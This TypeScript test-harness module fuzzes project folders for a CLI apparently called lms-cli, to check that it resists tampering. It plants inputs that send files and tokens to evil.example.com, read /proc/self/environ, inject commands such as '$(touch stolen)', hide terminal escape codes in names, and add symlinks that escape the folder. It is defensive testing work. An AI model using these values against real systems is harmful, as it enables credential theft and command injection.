/** Folders as somebody hostile would prepare them: a real one, with seeded changes. */
import { execFileSync } from 'node:child_process';
import {
  appendFileSync,
  cpSync,
  lstatSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { dirname, join } from 'node:path';
import { DatabaseSync } from '@photostructure/sqlite';
import { stringifyExact } from '../../src/documents/exact-json.ts';
import type { Cli } from '../harness/cli.ts';
import { lacuna } from '../harness/course.ts';
import { course, ledgerIn, recordingNetwork, tamper } from '../harness/planting.ts';

const EVIL = 'https://evil.example.com/api/public';
/** Of the servers that are planted. */
export const EVIL_ORIGINS: readonly string[] = [
  'https://evil.example.com',
  'http://evil.example.com',
  'https://evil.example.com:8443',
];
export const LEDGER = '.lms-cli/x.ledger.db';

/** What a command may open without being told its name. */
const unnamed: readonly string[] = [
  'lms-cli.yaml',
  '.lms-cli',
  ...['', '-wal', '-shm', '-journal', '.lock', '.new'].map((end) => LEDGER + end),
  ...['', '-wal', '-shm', '-journal'].map((end) => `.lms-cli/sandbox.db${end}`),
  '.lms-cli/sandbox.ledger.db',
  '.lms-cli/answers.json',
  '.lms-cli/track.create.old.draft.json',
  '.gitignore',
  'samples',
  'course.ndjson',
];

/** `x` is this machine, which needs no acceptance. */
const project = (url: string, profile: string, auth: string) => `defaultProfile: ${profile}
profiles:
  x: { baseUrl: "${url}" }
  evil: { baseUrl: "${EVIL}", auth: ${auth} }
  plain: { baseUrl: "http://evil.example.com", auth: { type: bearer, token: { env: LMS_TOKEN } } }
`;

/** A folder in which lms-cli was at work: every file that it keeps is there. */
export async function workedIn(cli: Cli): Promise<void> {
  const { differing } = recordingNetwork(cli);
  await cli.write('course.ndjson', course);
  await cli.write('q.json', stringifyExact(lacuna()));
  const url = ['--base-url', 'https://lms.example.com/api/public', '--ledger', LEDGER];
  await cli.runIn(differing, 'import', 'course.ndjson', ...url);
  await cli.run('plan', 'q.json', ...url);
  cli.setFaults('');
  await cli.run('lacuna', 'create', 'q.json', '--sandbox');
  await cli.write('.lms-cli/answers.json', '{"track.create":{"author":"Ana"}}');
  const draft = stringifyExact({ savedAt: 1, answers: { name: 'A draft' } });
  await cli.write('.lms-cli/track.create.old.draft.json', draft);
  await cli.write(
    'lms-cli.yaml',
    project(cli.url, 'evil', '{ type: bearer, token: { env: LMS_TOKEN } }'),
  );
}

/** What is not of the folder, and must neither be shown nor changed. */
export function makeOutside(folder: string, cli: Cli, secret: string): void {
  mkdirSync(join(folder, 'deep'), { recursive: true });
  writeFileSync(join(folder, 'environ'), `LMS_TOKEN=${secret}\0HOME=/root\0`);
  writeFileSync(join(folder, 'document.ndjson'), course.replace('Capital', secret));
  writeFileSync(join(folder, 'track.create.1.draft.json'), `{"answers":{"name":"${secret}"}}`);
  cpSync(ledgerIn(cli.folder), join(folder, 'y.ledger.db'));
  cpSync(join(cli.folder, '.lms-cli/sandbox.db'), join(folder, 'sandbox.db'));
}

/** Everything below a folder, without following links: names, times, texts. */
export function portraitOf(folder: string): string[] {
  return readdirSync(folder, { withFileTypes: true }).flatMap((entry) => {
    const path = join(folder, entry.name);
    const { mode, mtimeMs } = lstatSync(path);
    const text = entry.isFile() ? readFileSync(path, 'latin1') : '';
    return [`${path} ${mode} ${mtimeMs} ${text}`, ...(entry.isDirectory() ? portraitOf(path) : [])];
  });
}

export interface Mutating {
  readonly folder: string;
  readonly outside: string;
  /** Of a service on this machine. */
  readonly url: string;
  readonly random: () => number;
}

/** Changes one thing; answers what. */
export function mutate(mutating: Mutating): string {
  const { random } = mutating;
  const kind = random();
  if (kind < 0.35) return plantRun(mutating);
  if (kind < 0.45) return plantSchema(mutating);
  if (kind < 0.55) return plantProject(mutating);
  return plantFile(mutating);
}

const oneOf = <T>(random: () => number, values: readonly [T, ...T[]]): T =>
  values[Math.floor(random() * values.length)] ?? values[0];

function plantRun({ folder, outside, random }: Mutating): string {
  const ledger = join(folder, LEDGER);
  if (!isFile(ledger)) return 'no ledger';
  const url = oneOf(random, [
    EVIL,
    EVIL,
    EVIL,
    EVIL,
    'http://evil.example.com',
    'https://evil.example.com:8443/x',
    'ftp://evil',
    'x',
  ]);
  const path = oneOf(random, [
    join(folder, 'course.ndjson'),
    join(folder, 'course.ndjson'),
    join(folder, 'course.ndjson'),
    join(outside, 'document.ndjson'),
    join(outside, 'document.ndjson'),
    join(outside, 'environ'),
    '/proc/self/environ',
    '/dev/zero',
    '../outside/document.ndjson',
    '',
  ]);
  const headers = oneOf<string[]>(random, [
    [],
    [],
    [],
    ['X-A: b'],
    ['X-A: b'],
    ['Authorization: x'],
    ['A: b\r\nC: d'],
  ]);
  const profile = oneOf(random, [null, null, null, null, 'evil', 'plain', 'none']);
  const typed = [
    'import',
    random() < 0.5 ? `${path}\u001B[2J\u202E` : path,
    ...(random() < 0.8 ? ['--base-url', url] : []),
    ...(profile === null ? [] : ['--profile', profile]),
    ...(random() < 0.7 ? ['--allow-http'] : []),
    ...headers.flatMap((header) => ['--header', header]),
  ];
  unlessBroken(() =>
    tamper(ledger, (words, files) => ({
      words: { ...words, arguments: typed },
      files: files.map((file) => ({ ...file, name: `${path}\u001B[2J\u202E` })),
      state: 'interrupted',
    })),
  );
  return `run ${stringifyExact({ typed })}`;
}

/** An earlier change may have left no database that could be changed again. */
function unlessBroken(change: () => void): void {
  try {
    change();
  } catch (error) {
    if (!(error instanceof Error) || !('code' in error)) throw error;
  }
}

function plantSchema({ folder, random }: Mutating): string {
  const file = join(folder, oneOf(random, [LEDGER, '.lms-cli/sandbox.db']));
  if (!isFile(file)) return 'no database';
  const change = oneOf(random, [
    'CREATE VIEW v AS SELECT 1',
    'CREATE TABLE more (x)',
    "UPDATE facts SET value = 'https://evil.example.com'",
    "UPDATE runs SET id = '--ledger=$(touch stolen)'",
    "UPDATE runs SET target = 'x' || char(27) || '[2J', command = char(8238)",
    "UPDATE runs SET state = 'running', pid = 1, host = 'x'",
    'PRAGMA user_version = 99',
  ]);
  unlessBroken(() => {
    const database = new DatabaseSync(file);
    try {
      database.exec(change);
    } finally {
      database.close();
    }
  });
  return `${file}: ${change}`;
}

function plantProject({ folder, outside, url, random }: Mutating): string {
  const path = join(folder, 'lms-cli.yaml');
  if (!isFile(path)) return 'no project file';
  const text = oneOf(random, [
    project(url, 'evil', '{ type: bearer, token: { env: HOME } }'),
    project(url, 'evil', `{ type: bearer, token: { file: "${join(outside, 'environ')}" } }`),
    project(url, 'evil', '{ type: bearer, token: { command: [touch, stolen] } }'),
    project(
      url,
      'plain',
      '{ type: session, username: { env: LMS_USERNAME }, password: { env: LMS_PASSWORD } }',
    ),
    project(url, 'none', '{ type: none }'),
    `trustedOrigins: ["https://evil.example.com"]\n${project(url, 'evil', '{ type: none }')}`,
    '',
  ]);
  writeFileSync(path, text);
  return `project file ${text}`;
}

function plantFile({ folder, outside, random }: Mutating): string {
  // The folder itself more often: all else goes through it.
  const name = oneOf(random, ['.lms-cli', '.lms-cli', '.lms-cli', ...unnamed]);
  const path = join(folder, name);
  const targets = ['environ', 'y.ledger.db', 'sandbox.db', 'new', 'deep', 'deep/new', '.'] as const;
  const file = oneOf(random, [
    join(outside, 'new'),
    join(outside, oneOf(random, [...targets])),
    '/proc/self/environ',
    '/dev/zero',
    '/dev/null',
    `../outside/${oneOf(random, ['environ', 'new'])}`,
    '../../outside/new',
    'q.json',
    '.',
  ]);
  const isFolder = ['.lms-cli', 'samples'].includes(name);
  // Most often where a write would show.
  const telling = join(outside, isFolder ? 'deep' : 'new');
  const target = random() < 0.6 ? telling : file;
  const way = oneOf(random, ['link', 'link', 'link', 'folder', 'garbage', 'bytes', 'cut'] as const);
  if (way === 'bytes' || way === 'cut') {
    if (!isFile(path)) return `${name} is no file`;
    const bytes = readFileSync(path);
    if (way === 'cut') writeFileSync(path, bytes.subarray(0, Math.floor(random() * bytes.length)));
    else {
      for (let each = 0; each < 20; each += 1) {
        bytes[Math.floor(random() * bytes.length)] = Math.floor(random() * 256);
      }
      writeFileSync(path, bytes);
    }
    return `${name} ${way}`;
  }
  // Below a link that was planted before, that would be outside.
  const above = lstatSync(dirname(path), { throwIfNoEntry: false });
  if (above?.isDirectory() !== true) return `${name} has no folder`;
  rmSync(path, { recursive: true, force: true });
  if (way === 'link') symlinkSync(target, path);
  else if (way === 'folder') mkdirSync(path);
  else appendFileSync(path, Buffer.from(Array.from({ length: 500 }, () => random() * 256)));
  return `${name} ${way} ${way === 'link' ? target : ''}`;
}

function isFile(path: string): boolean {
  try {
    return lstatSync(dirname(path)).isDirectory() && lstatSync(path).isFile();
  } catch {
    return false;
  }
}

export function makePipe(path: string): void {
  rmSync(path, { recursive: true, force: true });
  execFileSync('mkfifo', [path]);
}
